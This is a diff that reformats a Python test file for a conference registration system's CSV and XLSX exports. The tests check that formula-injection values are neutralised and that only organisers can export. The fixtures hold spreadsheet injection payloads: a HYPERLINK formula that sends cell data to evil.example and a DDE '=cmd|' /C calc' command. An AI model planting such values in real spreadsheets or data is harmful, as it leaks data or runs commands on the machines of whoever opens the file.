@@ -20,8 +20,8 @@ from sqlmodel import col
 from conference import exports
 from conference.core.db import Database
 from conference.core.models import AuditEntry, Registration
-from sessions.workshops import programme
 from sessions.models import Kind, RoomCreate, SessionCreate, TimeSlotCreate
+from sessions.workshops import programme
 from tests.conference.test_console_registrations import HTML, register, sign_in
 from tests.conference.test_registration_api import organiser_token, staff_token
 from tests.factories import registration_body
@@ -32,7 +32,9 @@ EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 
 @pytest.fixture
-async def organiser(client: httpx.AsyncClient, database: Database, tickets: dict[str, Any]) -> httpx.AsyncClient:
+async def organiser(
+    client: httpx.AsyncClient, database: Database, tickets: dict[str, Any]
+) -> httpx.AsyncClient:
     await sign_in(client, await organiser_token(database))
     return client
 
@@ -57,8 +59,13 @@ def read_xlsx(response: httpx.Response) -> list[list[Any]]:
 
 async def audits(database: Database, action: str) -> list[AuditEntry]:
     async with database.read() as db:
-        return list((await db.execute(sa.select(AuditEntry).where(col(AuditEntry.action) == action)
-                                      .order_by(col(AuditEntry.id)))).scalars())
+        return list(
+            (
+                await db.execute(
+                    sa.select(AuditEntry).where(col(AuditEntry.action) == action).order_by(col(AuditEntry.id))
+                )
+            ).scalars()
+        )
 
 
 async def erase(database: Database, registration_id: str) -> None:
@@ -73,25 +80,52 @@ async def erase(database: Database, registration_id: str) -> None:
 async def people(organiser: httpx.AsyncClient, database: Database, tickets: dict[str, Any]) -> dict[str, Any]:
     client = organiser
     made = {
-        "evil": await register(client, registration_body(
-            tickets["delegate"], name=EVIL_NAME, organisation="+44 Trading", job_title="@SUM(1,2)",
-            dietary="-1+1 vegan", access_needs="=cmd|' /C calc'!A0", region="London",
-            email="evil@leeds.gov.uk")),
-        "plain": await register(client, registration_body(
-            tickets["delegate"], name="Zoë Plain", organisation="Kent Police", sector="police", dietary="Coeliac")),
-        "erased": await register(client, registration_body(
-            tickets["delegate"], name="Erin Erased", email="erin@leeds.gov.uk", dietary="Kosher",
-            organisation="Secret Org")),
+        "evil": await register(
+            client,
+            registration_body(
+                tickets["delegate"],
+                name=EVIL_NAME,
+                organisation="+44 Trading",
+                job_title="@SUM(1,2)",
+                dietary="-1+1 vegan",
+                access_needs="=cmd|' /C calc'!A0",
+                region="London",
+                email="evil@leeds.gov.uk",
+            ),
+        ),
+        "plain": await register(
+            client,
+            registration_body(
+                tickets["delegate"],
+                name="Zoë Plain",
+                organisation="Kent Police",
+                sector="police",
+                dietary="Coeliac",
+            ),
+        ),
+        "erased": await register(
+            client,
+            registration_body(
+                tickets["delegate"],
+                name="Erin Erased",
+                email="erin@leeds.gov.uk",
+                dietary="Kosher",
+                organisation="Secret Org",
+            ),
+        ),
         "gone": await register(client, registration_body(tickets["delegate"], dietary="Vegan")),
         "quiet": await register(client, registration_body(tickets["delegate"], name="Quentin Quiet")),
     }
     await erase(database, made["erased"]["id"])
-    cancelled = await client.delete(f"/api/v1/registrations/{made['gone']['id']}",
-                                    headers={"authorization": f"Bearer {made['gone']['manage_token']}"})
+    cancelled = await client.delete(
+        f"/api/v1/registrations/{made['gone']['id']}",
+        headers={"authorization": f"Bearer {made['gone']['manage_token']}"},
+    )
     assert cancelled.status_code in (200, 204), cancelled.text
     made["extra"] = await register(client, registration_body(tickets["delegate"], name="Xavier Extra"))
-    made["waiting"] = await register(client, registration_body(tickets["delegate"], name="Wanda Waiting",
-                                                               access_needs="Wheelchair user"))
+    made["waiting"] = await register(
+        client, registration_body(tickets["delegate"], name="Wanda Waiting", access_needs="Wheelchair user")
+    )
     assert made["waiting"]["status"] == "waitlisted"  # capacity 5
     return made
 
@@ -106,15 +140,37 @@ async def test_delegate_list_csv_and_xlsx_agree_and_are_neutralised(
     assert disposition.startswith('attachment; filename="delegates-20') and disposition.endswith('.csv"')
     rows = read_csv(response)
     header, body = rows[0], rows[1:]
-    assert header[:10] == ["Reference", "Status", "Name", "Email", "Organisation", "Job title", "Sector", "Region",
-                           "Ticket type", "Payment method"]
+    assert header[:10] == [
+        "Reference",
+        "Status",
+        "Name",
+        "Email",
+        "Organisation",
+        "Job title",
+        "Sector",
+        "Region",
+        "Ticket type",
+        "Payment method",
+    ]
     assert header[10].startswith("Registered (")
     by_ref = {r[0]: r for r in body}
     assert set(by_ref) == {p["reference"] for p in people.values()}  # every registration, cancelled ones too
     evil = by_ref[people["evil"]["reference"]]
-    assert evil[1:10] == ["Confirmed", "'" + EVIL_NAME, "evil@leeds.gov.uk", "'+44 Trading", "'@SUM(1,2)",
-                          "Local authority", "London", "Delegate", "Nothing to pay"]
-    assert by_ref[people["plain"]["reference"]][2] == "Zoë Plain" and by_ref[people["plain"]["reference"]][6] == "Police"
+    assert evil[1:10] == [
+        "Confirmed",
+        "'" + EVIL_NAME,
+        "evil@leeds.gov.uk",
+        "'+44 Trading",
+        "'@SUM(1,2)",
+        "Local authority",
+        "London",
+        "Delegate",
+        "Nothing to pay",
+    ]
+    assert (
+        by_ref[people["plain"]["reference"]][2] == "Zoë Plain"
+        and by_ref[people["plain"]["reference"]][6] == "Police"
+    )
     assert by_ref[people["gone"]["reference"]][1] == "Cancelled"
     assert by_ref[people["waiting"]["reference"]][1] == "Waitlisted"
     erased = by_ref[people["erased"]["reference"]]
@@ -150,12 +206,18 @@ async def test_delegate_list_respects_the_list_filters(
     assert [r[0] for r in free[1:]] == [people["gone"]["reference"]]
     entries = await audits(database, "conference.export.delegates")
     assert [(e.data["status"], e.data["searched"], e.data["rows"]) for e in entries] == [
-        ("waitlisted", False, 1), (None, True, 1), ("cancelled", False, 1)]
+        ("waitlisted", False, 1),
+        (None, True, 1),
+        ("cancelled", False, 1),
+    ]
     assert all("kent" not in str(e.data).lower() for e in entries)
     # The list page links to the export with its own filters.
     page = await client.get("/console/registrations?status=waitlisted&q=wanda", headers=HTML)
     assert 'href="/console/exports/delegates.csv?q=wanda&amp;status=waitlisted"' in page.text
-    assert 'href="/console/exports/dietary.xlsx"' in page.text and 'href="/console/exports/attendance.csv"' in page.text
+    assert (
+        'href="/console/exports/dietary.xlsx"' in page.text
+        and 'href="/console/exports/attendance.csv"' in page.text
+    )
 
 
 async def test_dietary_and_access_needs_for_the_venue(
@@ -172,8 +234,9 @@ async def test_dietary_and_access_needs_for_the_venue(
     assert evil[1:] == ["'" + EVIL_NAME, "'+44 Trading", "'-1+1 vegan", "'=cmd|' /C calc'!A0"]
     workbook = read_xlsx(await client.get("/console/exports/dietary.xlsx"))
     assert [[str(v) for v in r] for r in workbook] == rows
-    assert [(e.data["format"], e.data["rows"]) for e in await audits(database, "conference.export.dietary")] == [
-        ("csv", 2), ("xlsx", 2)]
+    assert [
+        (e.data["format"], e.data["rows"]) for e in await audits(database, "conference.export.dietary")
+    ] == [("csv", 2), ("xlsx", 2)]
 
 
 async def test_attendance_lists_door_and_session_check_ins(
@@ -183,21 +246,30 @@ async def test_attendance_lists_door_and_session_check_ins(
     async with database.transaction() as db:
         room = await programme.create_room(db, data=RoomCreate(name="Room A", capacity=20), actor=ORGANISER)
         start = datetime(2026, 12, 8, 10, tzinfo=UTC)
-        slot = await programme.create_slot(db, data=TimeSlotCreate(starts_at=start, ends_at=start + timedelta(hours=1)),
-                                           actor=ORGANISER)
-        session = await programme.create_session(db, data=SessionCreate(
-            title="=Workshop on risk", kind=Kind.workshop, room_id=room.id, start_slot_id=slot.id), actor=ORGANISER)
+        slot = await programme.create_slot(
+            db, data=TimeSlotCreate(starts_at=start, ends_at=start + timedelta(hours=1)), actor=ORGANISER
+        )
+        session = await programme.create_session(
+            db,
+            data=SessionCreate(
+                title="=Workshop on risk", kind=Kind.workshop, room_id=room.id, start_slot_id=slot.id
+            ),
+            actor=ORGANISER,
+        )
     staff = {"authorization": f"Bearer {await staff_token(database)}"}
     org = {"authorization": f"Bearer {await organiser_token(database)}"}
     plain, evil = people["plain"], people["evil"]
-    booked = await client.post(f"/api/v1/registrations/{plain['id']}/sessions", headers=org,
-                               json={"session_id": str(session.id)})
+    booked = await client.post(
+        f"/api/v1/registrations/{plain['id']}/sessions", headers=org, json={"session_id": str(session.id)}
+    )
     assert booked.status_code == 201, booked.text
-    for body in ({"reference": plain["reference"], "list": "door"},
-                 {"reference": plain["reference"], "list": str(session.id)},
-                 {"reference": plain["reference"], "list": "door"},  # a second scan: already in, not counted
-                 {"reference": evil["reference"], "list": str(session.id)},  # not booked: refused, not counted
-                 {"reference": people["erased"]["reference"], "list": "door"}):  # erased here, still confirmed
+    for body in (
+        {"reference": plain["reference"], "list": "door"},
+        {"reference": plain["reference"], "list": str(session.id)},
+        {"reference": plain["reference"], "list": "door"},  # a second scan: already in, not counted
+        {"reference": evil["reference"], "list": str(session.id)},  # not booked: refused, not counted
+        {"reference": people["erased"]["reference"], "list": "door"},
+    ):  # erased here, still confirmed
         assert (await client.post("/api/v1/checkins", headers=staff, json=body)).status_code == 200
 
     response = await client.get("/console/exports/attendance.csv")
@@ -209,19 +281,23 @@ async def test_attendance_lists_door_and_session_check_ins(
     assert set(by_ref) == {people[k]["reference"] for k in ("evil", "plain", "erased", "quiet", "extra")}
     came = by_ref[plain["reference"]]
     assert came[1:6] == ["Zoë Plain", "Kent Police", "Delegate", "Confirmed", "Yes"]
-    assert came[6] and came[7] == "1" and re.fullmatch(r"'=Workshop on risk \(\d\d \w{3} \d\d:\d\d\)", came[8])
+    assert (
+        came[6] and came[7] == "1" and re.fullmatch(r"'=Workshop on risk \(\d\d \w{3} \d\d:\d\d\)", came[8])
+    )
     assert by_ref[evil["reference"]][5:9] == ["No", "", "0", ""]
     erased = by_ref[people["erased"]["reference"]]
     assert erased[1:3] == ["[erased]", ""] and erased[5] == "Yes"
     workbook = read_xlsx(await client.get("/console/exports/attendance.xlsx"))
     xrow = next(r for r in workbook if r[0] == plain["reference"])
     assert isinstance(xrow[6], datetime) and xrow[7] == 1 and xrow[8] == came[8]
-    assert [(e.data["format"], e.data["rows"]) for e in await audits(database, "conference.export.attendance")] == [
-        ("csv", 5), ("xlsx", 5)]
+    assert [
+        (e.data["format"], e.data["rows"]) for e in await audits(database, "conference.export.attendance")
+    ] == [("csv", 5), ("xlsx", 5)]
 
 
-async def test_exports_are_for_organisers_only(client: httpx.AsyncClient, database: Database,
-                                               tickets: dict[str, Any]) -> None:
+async def test_exports_are_for_organisers_only(
+    client: httpx.AsyncClient, database: Database, tickets: dict[str, Any]
+) -> None:
     paths = [f"/console/exports/{kind}.{fmt}" for kind in exports.KINDS for fmt in ("csv", "xlsx")]
     for path in paths:
         anonymous = await client.get(path, headers=HTML)
@@ -232,8 +308,13 @@ async def test_exports_are_for_organisers_only(client: httpx.AsyncClient, databa
     await sign_in(client, await organiser_token(database))
     assert (await client.get("/console/exports/delegates.pdf", headers=HTML)).status_code == 404
     async with database.read() as db:
-        exported = (await db.execute(sa.select(sa.func.count()).select_from(AuditEntry).where(
-            col(AuditEntry.action).like("conference.export.%")))).scalar_one()
+        exported = (
+            await db.execute(
+                sa.select(sa.func.count())
+                .select_from(AuditEntry)
+                .where(col(AuditEntry.action).like("conference.export.%"))
+            )
+        ).scalar_one()
     assert exported == 0
 
 
